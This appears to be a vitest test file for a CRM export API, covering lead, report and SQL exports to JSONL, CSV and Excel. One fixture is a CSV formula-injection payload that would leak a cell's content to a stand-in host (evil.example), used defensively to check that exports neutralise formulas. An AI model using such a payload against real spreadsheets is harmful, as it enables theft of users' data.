import { readdir, readFile, stat } from 'node:fs/promises';
import { dirname } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { type Account, openAccount } from '../harness.ts';

interface Exported {
  fileName: string;
  mediaType: string;
  bytes: number;
  rows: number;
  columns: { key: string; title: string; type: string }[];
  url: string | null;
  path: string;
  asOf: string;
  complete: boolean;
  createdSince: string | null;
  historySince: string | null;
}

async function exportAs(account: Account, args: string): Promise<Exported> {
  const { exportRecords } = await account.query<{ exportRecords: Exported }>(`{
    exportRecords(${args}) {
      fileName mediaType bytes rows columns { key title type } url path asOf complete createdSince historySince
    }
  }`);
  return exportRecords;
}

type Line = Record<string, unknown>;

/** The records of an export as JSONL. */
async function readLines(account: Account, args: string): Promise<Line[]> {
  const { path, rows } = await exportAs(account, `${args}, format: JSONL`);
  const lines = (await readFile(path, 'utf8')).split('\n').filter(Boolean);
  expect(lines).toHaveLength(rows);
  return lines.map((line) => JSON.parse(line) as Line);
}

interface LiveLead {
  id: string;
  name: string;
  price: number;
  createdAt: string;
  closedAt: string | null;
  pipeline: { name: string };
  status: { name: string };
  responsible: { name: string } | null;
  lossReason: { name: string } | null;
  company: { name: string } | null;
  mainContact: { name: string; phones: { value: string }[] } | null;
  tags: { name: string }[];
}

/** All leads as amoCRM answers them now. */
async function listLive(account: Account): Promise<LiveLead[]> {
  const found: LiveLead[] = [];
  let after: string | null = null;
  do {
    const { leads }: { leads: { nodes: LiveLead[]; pageInfo: { endCursor: string; hasNextPage: boolean } } } =
      await account.query(
        `query ($after: String) { leads(first: 250, after: $after, orderBy: ID_ASC) {
          nodes {
            id name price createdAt closedAt pipeline { name } status { name } responsible { name } lossReason { name }
            company { name } mainContact { name phones { value } } tags { name }
          }
          pageInfo { endCursor hasNextPage }
        } }`,
        { after },
      );
    found.push(...leads.nodes);
    after = leads.pageInfo.hasNextPage ? leads.pageInfo.endCursor : null;
  } while (after !== null);
  return found;
}

const toList = (texts: string[]) => (texts.length > 1 ? texts : (texts[0] ?? null));

describe('an export of leads', () => {
  it('has every lead with the names that amoCRM shows', async () => {
    const account = await openAccount();
    const live = (await listLive(account)).map((lead) => ({
      id: lead.id,
      name: lead.name,
      price: lead.price,
      created_at: lead.createdAt,
      closed_at: lead.closedAt,
      pipeline: lead.pipeline.name,
      status: lead.status.name,
      responsible: lead.responsible?.name ?? null,
      loss_reason: lead.lossReason?.name ?? null,
      company: lead.company?.name ?? null,
      contact: lead.mainContact?.name ?? null,
      contact_phone: toList(lead.mainContact?.phones.map(({ value }) => value) ?? []),
      tags: toList(lead.tags.map(({ name }) => name).sort()),
    }));
    const keys = Object.keys(live[0] ?? {});
    const lines = await readLines(account, 'kind: LEADS');
    const shown = lines.map((line) => Object.fromEntries(keys.map((key) => [key, line[key]])));
    const sorted = shown.map((line) => ({
      ...line,
      tags: Array.isArray(line.tags) ? [...line.tags].sort() : line.tags,
    }));
    expect(sorted).toEqual(live);
    expect(lines.length).toBeGreaterThan(100);
  });

  it('has a column for each custom field, by its name and type', async () => {
    const account = await openAccount();
    const { columns } = await exportAs(account, 'kind: LEADS');
    const typeOf = (title: string) => columns.find((column) => column.title === title)?.type;
    const { customFields } = await account.query<{ customFields: { name: string }[] }>(
      '{ customFields(of: LEADS) { name } }',
    );
    const names = customFields.map(({ name }) => name);
    expect(columns.map(({ title }) => title)).toEqual(expect.arrayContaining(names));
    expect(typeOf('Договор подписан')).toBe('boolean');
    expect(typeOf('Предоплата')).toBe('number');
    expect(typeOf('Дата замера')).toBe('date');
    expect(typeOf('Начало монтажа')).toBe('date-time');
    expect(new Set(columns.map(({ key }) => key)).size).toBe(columns.length);
  });

  it('costs no request to amoCRM when the account was copied less than a minute ago', async () => {
    const account = await openAccount();
    await exportAs(account, 'kind: LEADS');
    expect(await account.count(() => exportAs(account, 'kind: LEADS, format: CSV'))).toBe(0);
  });

  it('says how current it is, and gives its path where no server can be asked for it', async () => {
    const account = await openAccount();
    const answer = await exportAs(account, 'kind: LEADS');
    expect(answer).toMatchObject({
      fileName: 'Сделки 2026-11-05.xlsx',
      url: null,
      asOf: '2026-11-05T12:00:00+03:00',
      complete: true,
      createdSince: null,
      historySince: null,
    });
    expect((await stat(answer.path)).size).toBe(answer.bytes);
    account.exports.address = 'https://crm.example.ru';
    const served = await exportAs(account, 'kind: LEADS');
    expect(served.path).toBeNull();
    expect(served.url).toMatch(/^https:\/\/crm\.example\.ru\/exports\/[\w-]{43}$/);
  });
});

describe('a name that customers chose', () => {
  const names = [
    '=HYPERLINK("http://evil.example/?"&A1;"Счёт")',
    '+79031234567',
    '@SUM(A1:A9)',
    'ООО "Ромашка"; опт, розница',
    'первая строка\nвторая',
    'окна 🙂 и двери',
    '000123',
  ];

  async function openNamed() {
    const account = await openAccount();
    await account.query('mutation ($inputs: [CreateLeadInput!]!) { createLeads(inputs: $inputs) { failed } }', {
      inputs: names.map((name) => ({ name })),
    });
    const { leads } = account.sandbox.data();
    const stored = leads
      .rows()
      .slice(-names.length)
      .map(({ id, name }) => [id, name] as const);
    return { account, stored };
  }

  it('comes back from a CSV file as it was, and as no formula', async () => {
    const { account, stored } = await openNamed();
    const { path } = await exportAs(account, 'kind: LEADS, format: CSV');
    const rows = parse(await readFile(path, 'utf8'), { bom: true, delimiter: ';' }) as string[][];
    const shown = new Map(rows.map(([id, name]) => [Number(id), name ?? '']));
    expect(stored.length).toBe(names.length);
    for (const [id, name] of stored) {
      const isRisky = /^[=+@]/.test(name) || name === '000123';
      expect(shown.get(id)).toBe(isRisky ? `'${name}` : name);
    }
    expect(rows.flat().filter((cell) => /^[=@\t\r]/.test(cell))).toEqual([]);
  });

  it('comes back from an Excel file as a text', async () => {
    const { account, stored } = await openNamed();
    const { path, rows: count } = await exportAs(account, 'kind: LEADS');
    const rows = await readSheet(path, 1, { trim: false });
    expect(rows).toHaveLength(count + 1);
    const shown = new Map(rows.map(([id, name]) => [id, name]));
    for (const [id, name] of stored) expect(shown.get(id)).toBe(name);
  });
});

describe('an export of other kinds', () => {
  it('has every record of the account', async () => {
    const account = await openAccount();
    const { contacts, companies, tasks, notes } = account.sandbox.data();
    const alive = (rows: readonly { isDeleted: boolean }[]) => rows.filter(({ isDeleted }) => !isDeleted).length;
    const live = await account.query<{ tasks: { nodes: unknown[] } }>('{ tasks(first: 250) { nodes { id } } }');
    const counts: Record<string, number> = {};
    for (const kind of ['CONTACTS', 'COMPANIES', 'TASKS', 'NOTES', 'CALLS', 'EVENTS', 'STAGE_MOVES']) {
      counts[kind] = (await readLines(account, `kind: ${kind}`)).length;
    }
    expect(counts).toMatchObject({ CONTACTS: alive(contacts.rows()), COMPANIES: alive(companies.rows()) });
    expect(counts.TASKS).toBeGreaterThanOrEqual(live.tasks.nodes.length);
    expect(counts.TASKS).toBeLessThanOrEqual(tasks.rows().length);
    expect(counts.NOTES).toBeGreaterThan(0);
    expect(counts.CALLS).toBeGreaterThan(0);
    expect((counts.NOTES ?? 0) + (counts.CALLS ?? 0)).toBeLessThanOrEqual(notes.rows().length);
    expect(counts.EVENTS).toBeGreaterThan(counts.STAGE_MOVES ?? 0);
    expect(counts.STAGE_MOVES).toBeGreaterThan(0);
  });

  it('names the card of each task, and reads yes or no', async () => {
    const account = await openAccount();
    const lines = await readLines(account, 'kind: TASKS');
    const { leads } = account.sandbox.data();
    const ofLeads = lines.filter(({ entity_type }) => entity_type === 'leads');
    expect(ofLeads.length).toBeGreaterThan(0);
    for (const { entity_id, entity_name } of ofLeads) expect(entity_name).toBe(leads.get(Number(entity_id))?.name);
    expect(new Set(lines.map(({ is_completed }) => is_completed))).toEqual(new Set([true, false]));
  });

  it('takes the records of leads that match', async () => {
    const account = await openAccount();
    const won = await readLines(account, 'kind: LEADS, filter: { state: [WON] }');
    const wonIds = new Set(won.map(({ id }) => id));
    const moves = await readLines(account, 'kind: STAGE_MOVES, filter: { state: [WON] }');
    expect(moves.length).toBeGreaterThan(0);
    expect(moves.filter(({ lead_id }) => !wonIds.has(lead_id))).toEqual([]);
    const { leads } = account.sandbox.data();
    const contacts = await readLines(account, 'kind: CONTACTS, filter: { state: [WON] }');
    const linked = [...wonIds].flatMap(
      (id) => leads.get(Number(id))?.contacts.map((contact) => String(contact.id)) ?? [],
    );
    const known = new Set(linked);
    expect(contacts.map(({ id }) => id).filter((id) => !known.has(String(id)))).toEqual([]);
    expect(contacts.length).toBeGreaterThan(0);
  });

  it('takes a period and people', async () => {
    const account = await openAccount();
    const all = await readLines(account, 'kind: EVENTS');
    const { users } = await account.query<{ users: { id: string; name: string }[] }>('{ users { id name } }');
    const user = users.find(({ name }) => name === all.at(-1)?.created_by);
    const day = '2026-10-01';
    const events = await readLines(account, `kind: EVENTS, createdAt: { from: "${day}" }, userIds: ["${user?.id}"]`);
    const wanted = all.filter(({ created_at, created_by }) => String(created_at) >= day && created_by === user?.name);
    expect(events).toEqual(wanted);
    expect(events.length).toBeGreaterThan(0);
    expect(events.length).toBeLessThan(all.length);
  });
});

describe('an export of a report', () => {
  const report = `groupBy: [RESPONSIBLE, CREATED_MONTH], period: { from: "2026-07-01", to: "2026-09-30" },
    compareTo: PREVIOUS_PERIOD, measures: [AMOUNT, WIN_RATE, MEDIAN_DAYS_TO_CLOSE], orderBy: AMOUNT`;

  interface Shown {
    count: number;
    amount: number;
    wonCount: number;
    closedCount: number;
    winRate: number | null;
    timedCount: number;
    medianDaysToClose: number | null;
  }

  type ShownGroup = Shown & { keys: { key: string | null; label: string | null }[]; before: Shown; change: Shown };

  it('has every group of the breakdown in its order, with the earlier period and the change', async () => {
    const account = await openAccount();
    const figures = 'count amount wonCount closedCount winRate timedCount medianDaysToClose';
    const { leadReport } = await account.query<{
      leadReport: { breakdown: { groupCount: number; groups: ShownGroup[] } };
    }>(`{ leadReport(filter: { state: [WON, LOST] }) { breakdown(first: 1000, ${report}) {
      groupCount: totalGroups groups { keys { key label } ${figures} before { ${figures} } change { ${figures} } }
    } } }`);
    const { groups, groupCount } = leadReport.breakdown;
    const toLine = ({ count, amount, wonCount, closedCount, winRate, timedCount, medianDaysToClose }: Shown) => ({
      count,
      amount,
      won_count: wonCount,
      closed_count: closedCount,
      win_rate: winRate,
      timed_count: timedCount,
      median_days_to_close: medianDaysToClose,
    });
    const named = (shown: Shown, ending: string) =>
      Object.fromEntries(Object.entries(toLine(shown)).map(([name, value]) => [`${name}${ending}`, value]));
    const expected = groups.map(({ keys: [user, month], before, change, ...now }) => ({
      responsible_id: user?.key,
      responsible: user?.label,
      created_month: month?.key,
      ...named(now, ''),
      ...named(before, '_before'),
      ...named(change, '_change'),
    }));
    const lines = await readLines(
      account,
      `kind: LEAD_REPORT, filter: { state: [WON, LOST] }, breakdown: { ${report} }`,
    );
    expect(lines).toEqual(expected);
    expect(lines).toHaveLength(groupCount);
    expect(lines.length).toBeGreaterThan(20);
  });

  it('names the currency of money, and writes amounts and shares as numbers', async () => {
    const account = await openAccount();
    const { path } = await exportAs(
      account,
      'kind: LEAD_REPORT, breakdown: { groupBy: [STATUS, STATE], measures: [AMOUNT, WIN_RATE] }',
    );
    const [titles, ...rows] = await readSheet(path);
    expect(titles).toEqual([
      'Воронка, ID',
      'Воронка',
      'Этап, ID',
      'Этап',
      'Состояние',
      'Сделок',
      'Сумма, RUB',
      'Успешных',
      'Закрытых',
      'Доля успешных',
    ]);
    const { leads } = await account.query<{ leads: { total: { count: number; amount: number } } }>(
      '{ leads(sortBy: PRICE_ASC) { total { count amount } } }',
    );
    const sum = (column: number) => rows.reduce((total, row) => total + (row[column] as number), 0);
    expect([sum(5), sum(6)]).toEqual([leads.total.count, leads.total.amount]);
    // The grouping decides it.
    expect(rows.map((row) => row[9])).toEqual(rows.map(() => null));
  });

  it('has one row without groups, and all figures if none are named', async () => {
    const account = await openAccount();
    const [line, ...others] = await readLines(account, 'kind: LEAD_REPORT, breakdown: {}');
    expect(others).toEqual([]);
    const { won_count: won, closed_count: closed, win_rate: rate } = line as Record<string, number>;
    expect(rate).toBeCloseTo(Number(won) / Number(closed), 4);
    expect(Object.keys(line ?? {})).toContain('p90_days_to_close');
  });
});

describe('an export of an SQL statement', () => {
  it('has every row, however many there are, in the order of the statement', async () => {
    const account = await openAccount();
    const query = 'select day, week as day, 1.5 as factor from calendar where day >= ? order by calendar.day desc';
    const sql = `kind: SQL_QUERY, sql: { query: "${query}", parameters: ["2010-01-01"] }`;
    const lines = await readLines(account, sql);
    const days = (Date.UTC(2051, 0, 1) - Date.UTC(2010, 0, 1)) / 86_400_000;
    expect(lines).toHaveLength(days);
    expect(lines[0]).toEqual({ day: '2050-12-31', day_2: '2050-12-26', factor: 1.5 });
    expect(lines.at(-1)?.day).toBe('2010-01-01');
    const { path, columns } = await exportAs(account, `${sql}, format: CSV`);
    expect(columns.map(({ type }) => type)).toEqual(['any', 'any', 'any']);
    const rows = parse(await readFile(path, 'utf8'), { bom: true, delimiter: ';' }) as string[][];
    expect(rows.slice(0, 2)).toEqual([
      ['day', 'day_2', 'factor'],
      ['2050-12-31', '2050-12-26', '1,5'],
    ]);
  });

  it('keeps numbers numbers and texts texts in Excel', async () => {
    const account = await openAccount();
    const { path, rows: count } = await exportAs(
      account,
      'kind: SQL_QUERY, sql: { query: "select 12 as whole, 0.5 as half, \'=1+1\' as text, null as missing" }',
    );
    expect(count).toBe(1);
    expect(await readSheet(path)).toEqual([
      ['whole', 'half', 'text', 'missing'],
      [12, 0.5, '=1+1', null],
    ]);
  });

  it('says what is wrong with the statement, and leaves no file behind', async () => {
    const account = await openAccount();
    const { path } = await exportAs(account, 'kind: LEADS');
    const before = await readdir(dirname(path));
    const wrong = ['select nme from leads', 'delete from leads'];
    for (const query of wrong) {
      const { errors } = await account.execute(
        `{ exportRecords(kind: SQL_QUERY, sql: { query: "${query}" }) { rows } }`,
      );
      expect(errors?.[0]?.message).toMatch(/^sql\.query: /);
    }
    expect(await readdir(dirname(path))).toEqual(before);
  });
});

describe('an export that fails', () => {
  it.each([
    ['kind: LEAD_REPORT', /breakdown: is required by the kind LEAD_REPORT/],
    ['kind: SQL_QUERY', /sql: is required by the kind SQL_QUERY/],
    ['kind: LEADS, sql: { query: "select 1" }', /sql: is not used by the kind LEADS/],
    [
      'kind: SQL_QUERY, sql: { query: "select 1" }, filter: { state: [WON] }',
      /filter: is not used by the kind SQL_QUERY/,
    ],
    ['kind: LEAD_REPORT, breakdown: {}, userIds: ["1"]', /userIds: is not used by the kind LEAD_REPORT/],
    ['kind: LEAD_REPORT, breakdown: { compareTo: PREVIOUS_PERIOD }', /breakdown\.compareTo: compares periods/],
  ])('refuses %s', async (args, message) => {
    const account = await openAccount();
    const { errors } = await account.execute(`{ exportRecords(${args}) { rows } }`);
    expect(errors?.[0]?.message).toMatch(message);
  });

  it('leaves no file behind', async () => {
    const account = await openAccount();
    const { path } = await exportAs(account, 'kind: LEADS');
    const before = await readdir(dirname(path));
    const controller = new AbortController();
    const { errors } = await account.execute(
      '{ exportRecords(kind: LEADS) { rows } }',
      {},
      { signal: controller.signal, onProgress: () => controller.abort() },
    );
    expect(errors?.[0]?.extensions.code).toBe('CANCELLED');
    // The engine answers at once; the export ends with its next step.
    await expect.poll(() => readdir(dirname(path))).toEqual(before);
  });

  it('names the argument that is wrong', async () => {
    const account = await openAccount();
    const { errors } = await account.execute(
      '{ exportRecords(kind: LEADS, createdAt: { from: "2026-11-05", to: "2026-11-01" }) { rows } }',
    );
    expect(errors?.[0]).toMatchObject({ message: expect.stringContaining('createdAt: ends before it begins') });
  });
});
